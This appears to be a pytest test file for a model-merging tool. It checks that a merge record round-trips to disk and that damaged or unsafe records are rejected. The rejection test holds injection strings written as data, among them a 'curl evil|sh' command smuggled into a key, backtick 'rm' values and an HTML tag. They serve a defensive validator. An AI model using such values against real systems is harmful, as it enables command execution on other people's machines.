"""The record of a merge survives the disk, and damage to it is said."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from slack_ties.errors import OutputError
from slack_ties.record import RECORD_FILE, MergeRecord, Parent, read_record, write_record

RECORD = MergeRecord(
    method="slack_ties",
    dtype="bfloat16",
    parameters=12,
    parents=(
        Parent("me/base@main", role="base", commits=("a" * 40,), license="mit"),
        Parent("./ct", role="ct", commits=("",), hub=(f"me/ct@{'d' * 40}",)),
        Parent("me/sft+me/lora@v1", role="sft", commits=("b" * 40, "c" * 40)),
    ),
    versions={"torch": "2.13.0"},
    options={"device": "cuda", "allow_crimes": True, "copy_tokenizer": False, "out_shard_size": 7},
)


def test_is_read_as_it_was_written(tmp_path: Path) -> None:
    """Every field comes back."""
    write_record(RECORD, tmp_path)

    assert read_record(tmp_path) == RECORD


def test_knows_which_parents_are_on_the_hub() -> None:
    """Only what was fetched at a commit is; its id is without the revision."""
    assert [p.hub_ids for p in RECORD.parents] == [["me/base"], [], ["me/sft", "me/lora"]]


def test_gives_the_options_as_typed() -> None:
    """Switches on and off, and options with values."""
    assert RECORD.flags() == [
        "--allow-crimes",
        "--no-copy-tokenizer",
        *("--device", "cuda"),
        *("--out-shard-size", "7"),
    ]


@pytest.mark.parametrize(
    "change",
    [
        {"versions": {"torch; curl evil|sh #": "1"}},
        {"versions": {"torch": "1\n```"}},
        {"versions": ["torch"]},
        {"method": 5},
        {"options": {"x y": 1}},
        {"options": None},
        {"options": {"seed": "1\n```"}},
        {"options": {"seed": ["1"]}},
        {"method": "a b"},
        {"dtype": "<img src=x>"},
        {"parents": [{"model": None, "commits": []}]},
        {"parents": [{"model": "x", "commits": ["`rm`"]}]},
        {"parents": [{"model": "x", "commits": [""], "hub": ["`rm`"]}]},
        {"adopted": "yes"},
        {"parents": [{"model": "x", "commits": [], "license": 5}]},
        {"parents": [{"model": "x", "commits": [], "role": []}]},
    ],
)
def test_what_is_not_safe_to_print(tmp_path: Path, change: dict[str, object]) -> None:
    """It comes with a published model, from anybody, and goes into cards and commands."""
    write_record(RECORD, tmp_path)
    data = json.loads((tmp_path / RECORD_FILE).read_text("utf-8"))
    (tmp_path / RECORD_FILE).write_text(json.dumps({**data, **change}))

    with pytest.raises(OutputError, match="damaged"):
        read_record(tmp_path)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "slack-ties did not merge this model"),
        ("{", "damaged"),
        ("[]", "damaged"),
        ('{"record": 1}', "damaged"),
        ('{"record": 2}', "expected record version 1, got 2"),
    ],
)
def test_what_cannot_be_read(tmp_path: Path, content: str | None, message: str) -> None:
    """Missing, damaged, or of a later version: each with a next step."""
    if content is not None:
        (tmp_path / RECORD_FILE).write_text(content)

    with pytest.raises(OutputError, match=message) as caught:
        read_record(tmp_path)

    assert caught.value.hint
